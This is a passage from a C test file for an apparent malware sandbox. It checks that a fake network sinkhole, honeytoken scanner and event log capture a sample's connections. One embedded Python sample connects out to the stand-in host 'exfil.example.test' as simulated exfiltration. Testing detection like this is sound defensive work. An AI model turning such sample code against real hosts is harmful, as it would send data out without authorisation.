        "token split across two masked frames");

  /* 9. The API view of the sinkhole. */
  struct sockaddr_in a4 = {.sin_family = AF_INET};
  inet_pton(AF_INET, sink, &a4.sin_addr);
  const char *nm =
      pt_fakenet_name_for(ctx.fn, (struct sockaddr *)&a4, sizeof(a4));
  CHECK(nm && strcmp(nm, "exfil.example.test") == 0, "name_for(%s) = %s", sink,
        nm ? nm : "NULL");
  inet_pton(AF_INET, "198.51.100.23", &a4.sin_addr);
  CHECK(pt_fakenet_name_for(ctx.fn, (struct sockaddr *)&a4, sizeof(a4)) == NULL,
        "name_for(198.51.100.23) = NULL");
  struct pt_fakenet_stats st;
  pt_fakenet_stats(ctx.fn, &st);
  CHECK(st.conns_refused == 0 && st.sockets == 0 && st.tcp_conns >= 8,
        "stats: %llu connections, none refused, every socket closed",
        (unsigned long long)st.tcp_conns);
  /* Nothing but what the sample did. */
  json_t *e;
  size_t i, nnet = 0;
  json_array_foreach(pt_events_all(events), i, e) {
    if (strcmp(str(e, "kind"), "net") == 0)
      nnet++;
  }
  CHECK(nnet == 9, "exactly 9 net events (got %zu)", nnet);


  /* 10. The next phase: the same fake network in a new jail. */
  jail_result_free(&res);
  static const char phase2[] =
      "import socket\n"
      "a = socket.getaddrinfo('exfil.example.test', 80, socket.AF_INET)[0][4][0]\n"
      "s = socket.create_connection((a, 8080), timeout=10)\n"
      "s.sendall(b'GET /again HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')\n"
      "print('PHASE2', a, s.recv(15).decode())\n";
  ctx.nseen = 0;
  if (run_sample(phase2, tok, &cfg, &ctx, &res) == 0) {
    char want[64];
    snprintf(want, sizeof(want), "PHASE2 %s HTTP/1.1 200 OK\n", sink);
    CHECK(res.out.data && strstr(res.out.data, want) &&
              find(events, "net",
                   json_pack("{s:s,s:s,s:{s:s}}", "address", sink, "hostname",
                             "exfil.example.test", "http", "path", "/again")) !=
                  NULL,
          "a second jail with the same fake network: same address, "
          "listeners opened again");
    jail_result_free(&res);
  } else {
    CHECK(false, "second jail ran");
  }
  dump_on_failure(events, before);
  pt_fakenet_free(ctx.fn);
  pt_events_free(events);
  return 0;
}

int main(void) {
  if (!only_loopback()) {
    fprintf(stderr, "refusing to run outside `unshare --net`\n");
    return 2;
  }
  setvbuf(stdout, NULL, _IOLBF, 0);
  /* A fresh token per run, as the honeytoken generator would make. */
  static const char alnum[] =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
  char tok[33];
  for (size_t i = 0; i < 32; i++)
    tok[i] = alnum[pt_random_u32() % (sizeof(alnum) - 1)];
  tok[32] = '\0';
  pt_tok_scanner *tokens = pt_tok_new();
  if (tokens == NULL || pt_tok_add(tokens, "test_token", tok) < 0)
    return 2;
  if (scenario_exfil(tokens, tok) < 0 || scenario_limits(tokens, tok) < 0) {
    pt_tok_free(tokens);
    return 2;
  }
  pt_tok_free(tokens);
  printf("# %d failed\n", failures);
  return failures ? 1 : 0;
}
